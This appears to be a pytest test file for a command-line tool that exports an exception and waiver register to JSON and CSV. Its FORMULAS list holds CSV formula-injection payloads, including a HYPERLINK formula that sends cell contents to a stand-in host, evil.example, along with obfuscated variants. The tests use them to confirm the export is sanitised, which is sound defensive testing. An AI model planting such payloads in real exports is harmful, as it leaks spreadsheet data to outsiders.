"""The exception register as an auditor gets it, from both databases, while somebody serves on them."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot import register
from bot.__main__ import main
from bot.domain import waivers
from bot.domain.audit import Entry
from bot.domain.exception_requests import Choice, ExceptionRequest, Stage
from bot.domain.people import Account
from bot.store.database import Database, claimed
from bot.store.transaction import Transaction
from tests.domain.cast import (
    ADA,
    CALM,
    CLAUSE,
    GRACE,
    HIGH,
    MODERATE,
    SAM,
    approved,
    demand,
    granted,
    say,
    submitted,
    with_condition,
)

NOW = datetime.now(UTC)
FORMULAS = ("=HYPERLINK(\"https://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\u200b=cmd()", "x;=1+1")  # fmt: skip


@pytest.fixture(autouse=True)
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("ARCHWAY_DATA", str(tmp_path / "data"))
    return tmp_path / "data"


@pytest.fixture
def url(database: Database, database_url: str) -> str:
    """The address of a database with five requests; it stays open."""
    for person in (GRACE, ADA, SAM):
        database.write_now(lambda unit, by=person.account: unit.people.meet(by))  # type: ignore[misc]
    until = (NOW + timedelta(days=30)).date()
    revoked = waivers.revoke(approved(NOW, until=until, service="billing"), ADA, "It is misused.", NOW).request
    put(
        database,
        approved(NOW, until=until),
        say(submitted(NOW, until=until, service="Billing"), ADA, Choice.DECLINE, NOW).request,
        submitted(NOW, until=until, answers=MODERATE, remedied_by=until),
        revoked,
        granted(NOW, until=(NOW + timedelta(days=2)).date(), remedied_by=until),
    )
    return database_url


def put(database: Database, *requests: ExceptionRequest) -> None:
    def stored(unit: Transaction) -> None:
        for number, each in enumerate(requests, 1):
            request = replace(each, id=f"EX-{number}")
            unit.exceptions.put(request)
            unit.exceptions.note(request.id, unit.audit.add(Entry("exception_request.submitted", request.id)))

    database.write_now(stored)


def printed(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    assert main(["register", *arguments]) == 0
    return capsys.readouterr().out


def ids(capsys: pytest.CaptureFixture[str], *arguments: str) -> list[str]:
    return [each["id"] for each in json.loads(printed(capsys, *arguments))["requests"]]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_register_is_one_json_document_with_all_that_is_known(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    found = json.loads(printed(capsys, "--database", url))
    assert (found["count"], found["status"], found["service"]) == (5, "", "")
    first: dict[str, Any] = found["requests"][0]
    assert (first["id"], first["status"], first["stage"], first["in_force"]) == ("EX-1", "in force", "approved", True)
    assert first["clause"]["text"] == CLAUSE.text
    assert first["clause"]["text_sha256"] == hashlib.sha256(CLAUSE.text.encode()).hexdigest()
    assert first["asked_by"]["email"] == "grace@example.org"
    assert first["rule"]["name"] == "decide.low"
    assert first["rule"]["revision"] == "3f1c"
    assert first["rule"]["at_most"] == "180 days"
    assert first["seats"] == {"architect": 1}
    assert [(each["by"]["email"], each["roles"], each["choice"]) for each in first["voices"]] == [
        ("ada@example.org", ["architect"], "Approve")
    ]
    assert [each["email"] for each in first["decided_by"]] == ["ada@example.org"]
    assert first["decided_at"] == first["waiver"]["since"] == NOW.isoformat()
    assert [each["action"] for each in first["audit"]] == ["exception_request.submitted"]
    assert all(len(each["hash"]) == 64 for each in first["audit"])
    revoked = found["requests"][3]
    assert (revoked["waiver"]["ended_by"]["name"], revoked["waiver"]["ended_because"]) == ("Ada", "It is misused.")
    emergency = found["requests"][4]
    assert (emergency["emergency_reason"], emergency["stage"]) == ("The till is down.", "submitted")
    assert emergency["emergency_rule"]["within"] == "1 hour"


def test_conditions_and_a_formal_acceptance_are_in_it(
    database: Database, database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    due = (NOW + timedelta(days=9)).date()
    until = (NOW + timedelta(days=30)).date()
    accepted = say(submitted(NOW, until=until, answers=HIGH, remedied_by=until), SAM, now=NOW).request
    under = say(
        submitted(NOW, until=until), ADA, Choice.APPROVE_WITH_CONDITIONS, NOW, demands=(demand(due=due),)
    ).request
    put(database, accepted, under)
    first, second = json.loads(printed(capsys, "--database", database_url))["requests"]
    assert first["voices"][0]["acceptance"] == "I accept the risk."
    (condition,) = second["conditions"]
    assert (condition["text"], condition["owner"], condition["due"], condition["is"]) == (
        "Rotate the keys.",
        "grace@example.org",
        due.isoformat(),
        "open",
    )
    assert condition["set_by"]["name"] == "Ada"
    assert f"Rotate the keys. (grace@example.org, by {due}, open)" in printed(
        capsys, "--database", database_url, "--format", "csv"
    )


@pytest.mark.parametrize(
    ("arguments", "found"),
    [
        (["--status", "in force"], ["EX-1", "EX-5"]),
        (["--status", "In-Force"], ["EX-1", "EX-5"]),
        (["--status", "declined"], ["EX-2"]),
        (["--status", "approved"], ["EX-1", "EX-4"]),
        (["--status", "revoked"], ["EX-4"]),
        (["--status", "pending"], ["EX-3", "EX-5"]),
        (["--service", "billing"], ["EX-2", "EX-4"]),
        (["--service", " BILLING ", "--status", "declined"], ["EX-2"]),
        (["--service", "checkout"], []),
    ],
)
def test_requests_are_found_by_status_and_service(
    url: str, capsys: pytest.CaptureFixture[str], arguments: Sequence[str], found: list[str]
) -> None:
    assert ids(capsys, "--database", url, *arguments) == found
    listed = rows(printed(capsys, "--database", url, "--format", "csv", *arguments))
    assert [row["id"] for row in listed] == found


def test_a_waiver_whose_end_has_passed_is_expired_before_anybody_writes_it_down(
    database: Database, database_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    put(database, approved(NOW - timedelta(days=60), until=(NOW - timedelta(days=9)).date()))
    assert ids(capsys, "--database", database_url, "--status", "expired") == ["EX-1"]
    assert ids(capsys, "--database", database_url, "--status", "in force") == []


def test_a_status_that_there_is_not_is_one_sentence(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["register", "--database", url, "--status", "granted"]) == 2
    told = capsys.readouterr()
    assert told.out == ""
    assert "“granted” is no status; there are: pending, submitted, changes asked" in told.err


def test_an_empty_register_is_one_too(database_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert json.loads(printed(capsys, "--database", database_url))["requests"] == []
    assert rows(printed(capsys, "--database", database_url, "--format", "csv")) == []


def test_it_is_read_while_somebody_serves(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    with claimed(url):
        assert len(ids(capsys, "--database", url)) == 5


def test_without_a_database_it_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["register", "--database", f"sqlite:///{tmp_path}/none.db"]) == 2
    assert "There is no database" in capsys.readouterr().err


def hostile(text: str) -> ExceptionRequest:
    """A request with a text wherever somebody can write one."""
    until = (NOW + timedelta(days=30)).date()
    target = replace(CLAUSE, id=text, standard=text, title=text, text=text, owner=text, controls=(text,), level=text)
    wish: dict[str, Any] = dict.fromkeys(
        ("service", "environment", "reason", "compensating_controls", "remediation"), text
    )
    asked = submitted(NOW, until=until, **wish)
    person = replace(asked.asked_by, name=text, email=text)
    asked = replace(
        asked,
        asked_by=person,
        wish=replace(
            asked.wish,
            target=target,
            tier=text,
            links=(text,),
            answers={text: text},
            emergency_reason=text,
            renews=text,
        ),
        terms=replace(asked.terms, revision=text, level=text, seats=tuple(replace(s, role=text) for s in asked.terms.seats)),
        target_now=text,
    )  # fmt: skip
    done = with_condition(now=NOW).waiver
    assert done
    ada = Account("slack", "U-ada", "T1", name=text, email=text)
    (voice,) = done.granted
    voice = replace(
        voice, words=text, right=replace(voice.right, by=person, speaks_for=person, roles=frozenset({text}))
    )
    ended = replace(
        done,
        granted=(voice,),
        conditions=(replace(done.conditions[0], text=text, owner=text),),
        ended_at=NOW,
        ended_by=replace(person, account=str(ada)),
        ended_because=text,
        renewed_by=text,
    )
    return replace(asked, stage=Stage.APPROVED_WITH_CONDITIONS, ended_at=NOW, waiver=ended)


@CALM
@given(st.text(max_size=12).filter(str.strip) | st.sampled_from(FORMULAS))
@example("=1")
def test_no_cell_of_a_hostile_register_is_a_formula(text: str) -> None:
    listed = rows(register.as_csv({"requests": [register.facts(hostile(text), (), NOW)]}))
    (row,) = listed
    assert set(row) == set(register.COLUMNS)
    for cell in row.values():
        for part in cell.split(";"):
            assert part.strip()[:1] not in {*"=+-@＝＋－＠"}, cell
        assert "\t" not in cell
        assert "\r" not in cell
        assert "\n" not in cell


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_kept_and_reads_as_text(text: str) -> None:
    (row,) = rows(register.as_csv({"requests": [register.facts(hostile(text), (), NOW)]}))
    written = [name for name, cell in row.items() if "'" in cell]
    columns = {"clause", "service", "reason", "owner", "asked_by", "ended_because", "conditions", "revision"}
    assert columns <= set(written)
    assert json.loads(json.dumps(register.facts(hostile(text), (), NOW)))["reason"] == text.strip()


def test_ordinary_words_are_written_as_they_are() -> None:
    for text in ("payments", "We can't: the vendor says 2-3 weeks", "ada@example.org", "1 + 1 = 2", "a, b; c", "'tis"):
        assert register.harmless(text) == text
    assert register.harmless("First\n- do this\n- do that") == "First - do this - do that"
    assert register.harmless("\x1b[31mred\x07") == "red"
